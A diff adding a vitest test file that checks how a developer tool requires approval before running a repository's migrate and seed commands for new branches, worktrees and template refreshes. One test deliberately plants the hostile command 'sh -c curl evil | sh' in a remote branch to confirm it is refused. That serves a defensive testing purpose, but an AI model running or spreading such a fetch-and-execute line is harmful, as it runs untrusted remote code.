@@ -1,0 +1,146 @@
+import { describe, expect, it, vi } from 'vitest';
+import { refreshTemplate } from '../../../src/app/databases/refreshTemplate';
+import type { Approve } from '../../../src/core/repositoryCommands';
+import { database, EnvironmentWorld } from '../../support/environmentWorld';
+import { environmentFileText } from '../../support/fakes/fakeEnvironmentFiles';
+
+const root = '/code/repo';
+const file = (migrate = database.migrate): string => environmentFileText(['web'], { ...database, migrate });
+const all = ['node migrate.js', 'node seed.js', 'node web.js'];
+
+/** Nothing is approved, and nobody is trusted. */
+function aWorld(): EnvironmentWorld {
+  const world = new EnvironmentWorld();
+  world.approvals.approvesAll = false;
+  world.commit(file());
+  return world;
+}
+
+/** Says yes, and remembers what was asked. */
+function yes(): { readonly approve: Approve; readonly asked: () => string[][] } {
+  const approve = vi.fn<Approve>().mockResolvedValue(true);
+  return { approve, asked: () => approve.mock.calls.map(([{ commands }]) => commands.map(({ text }) => text)) };
+}
+
+describe('what a repository runs on this machine', () => {
+  it('is asked about once, whole, before anything is made', async () => {
+    const world = aWorld();
+    const before = await world.state();
+    const seen: object[] = [];
+    const { approve, asked } = yes();
+    await world.createBranch('x', {
+      approve: async (question, signal) => {
+        seen.push(await world.state());
+        return approve(question, signal);
+      },
+    });
+    expect(seen).toEqual([before]);
+    expect(asked()).toEqual([all]);
+    expect(world.approvals.commands).toEqual(all);
+    await world.createBranch('y');
+    expect(world.commands.runs).toHaveLength(2);
+  });
+
+  it('is asked about again when migrate changes, that command alone', async () => {
+    const world = aWorld();
+    const { approve, asked } = yes();
+    await world.createBranch('x', { approve });
+    world.edited.set('/code/repo.worktrees/x', file(['node', 'other.js']));
+    const update = { target: { kind: 'worktree', path: '/code/repo.worktrees/x' } } as const;
+    await expect(world.create(update)).rejects.toMatchObject({ code: 'unapproved' });
+    await world.create(update, { approve });
+    await world.create(update);
+    expect(asked()).toEqual([all, ['node other.js']]);
+  });
+
+  it('changes nothing where it is refused, or where there is nobody to ask', async () => {
+    const world = aWorld();
+    const before = await world.state();
+    const refused = { code: 'unapproved', message: expect.stringContaining('nothing was done') };
+    await expect(world.createBranch('x')).rejects.toMatchObject({
+      ...refused,
+      explanation: expect.stringContaining('database.migrate: node migrate.js'),
+      commands: all.map((text) => expect.objectContaining({ text })),
+    });
+    await expect(world.createBranch('x', { approve: async () => false })).rejects.toMatchObject(refused);
+    const turnedAway = new DOMException('no', 'AbortError');
+    await expect(world.createBranch('x', { approve: () => Promise.reject(turnedAway) })).rejects.toBe(turnedAway);
+    expect(await world.state()).toEqual(before);
+    expect(world.approvals.commands).toEqual([]);
+    expect([world.commands.runs, world.releases.names]).toEqual([[], []]);
+  });
+
+  it('runs nothing of a remote branch that was not approved', async () => {
+    const world = aWorld();
+    world.worktrees.makeRemoteBranch('origin/theirs');
+    const { approve, asked } = yes();
+    await world.createBranch('mine', { approve });
+    const before = await world.state();
+    // What the remote branch says; the folder that is trusted still says what it said.
+    world.edited.set(root, file());
+    world.trustedFolders = [root];
+    world.commit(file(['sh', '-c', 'curl evil | sh']));
+    await expect(world.createBranch('origin/theirs')).rejects.toMatchObject({
+      code: 'unapproved',
+      message: expect.stringContaining('origin/theirs'),
+    });
+    expect(await world.state()).toEqual(before);
+    await world.createBranch('origin/theirs', { approve });
+    expect(asked()).toEqual([all, ['sh -c "curl evil | sh"']]);
+  });
+
+  it('is approved by a trusted folder whose own file says the same, for new branches as well', async () => {
+    const world = aWorld();
+    world.trustedFolders = ['/code/no-file', root];
+    world.edited.set('/code/no-file', undefined);
+    const { approve, asked } = yes();
+    await world.createBranch('new-from-main', { approve });
+    expect(asked()).toEqual([]);
+    // A terminal need not ask about it any more.
+    world.trustedFolders = [];
+    await world.createBranch('another');
+    expect(world.approvals.commands).toEqual(all);
+  });
+
+  it('is what was approved: a file that changes while a person thinks is refused', async () => {
+    const world = aWorld();
+    world.trustedFolders = [];
+    const request = { target: { kind: 'worktree', path: root } } as const;
+    const approve: Approve = async () => {
+      world.edited.set(root, file(['node', 'worse.js']));
+      return true;
+    };
+    const before = await world.state();
+    await expect(world.create(request, { approve })).rejects.toMatchObject({
+      code: 'unapproved',
+      explanation: expect.stringContaining('node worse.js'),
+    });
+    expect(await world.state()).toEqual(before);
+    expect(world.commands.runs).toEqual([]);
+  });
+
+  it('is only the database where a cluster runs containers', async () => {
+    const world = aWorld();
+    world.cluster.identity = { kind: 'context', context: 'c', server: 'https://c.test' };
+    world.settings = { ...world.settings, 'postgres.url': 'postgres://db.test/postgres' };
+    const { approve, asked } = yes();
+    await world.createBranch('x', { approve });
+    expect(asked()).toEqual([['node migrate.js', 'node seed.js']]);
+  });
+});
+
+describe('refreshing a template', () => {
+  const { signal } = new AbortController();
+  const run = { signal, report: () => undefined };
+
+  it('asks about migrate and seed, and refuses where there is nobody to ask', async () => {
+    const world = aWorld();
+    const refresh = refreshTemplate(world.createPorts());
+    await expect(refresh({ folder: root }, run)).rejects.toMatchObject({ code: 'unapproved' });
+    expect([world.commands.runs, [...world.databases.held]]).toEqual([[], []]);
+    const { approve, asked } = yes();
+    await refresh({ folder: root }, { ...run, approve });
+    await refresh({ folder: root }, run);
+    expect(asked()).toEqual([['node migrate.js', 'node seed.js']]);
+  });
+});
